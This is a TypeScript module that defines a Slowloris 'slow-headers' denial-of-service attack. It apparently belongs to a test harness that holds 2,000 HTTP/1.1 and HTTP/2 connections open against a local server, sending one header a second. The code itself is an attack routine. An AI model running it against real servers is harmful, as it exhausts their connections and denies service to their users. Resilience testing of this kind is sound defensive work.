/** Slowloris: requests whose headers go on for ever, a field a second, over both protocols. */
import { type Attack, attackerAddress, frame, hold, Peer, type } from '../wire.ts';

const connections = 2_000;

export const slowHeaders: Attack = {
  name: 'slow-headers',
  about: '2,000 connections that send a header a second',
  run: ({ http, grpc }, signal) =>
    hold(
      connections,
      signal,
      async (n) => {
        const from = attackerAddress(n % 2);
        if (n % 2 === 1) {
          const peer = await Peer.openHttp2(grpc, undefined, from);
          await peer?.write(frame(type.headers, 0, 1, Buffer.from([0x83])));
          return peer;
        }
        const peer = await Peer.open(http, from);
        await peer?.write(Buffer.from('GET /healthz HTTP/1.1\r\nhost: localhost\r\n'));
        return peer;
      },
      (peer) => peer.write(Buffer.from('x: y\r\n')),
    ),
};
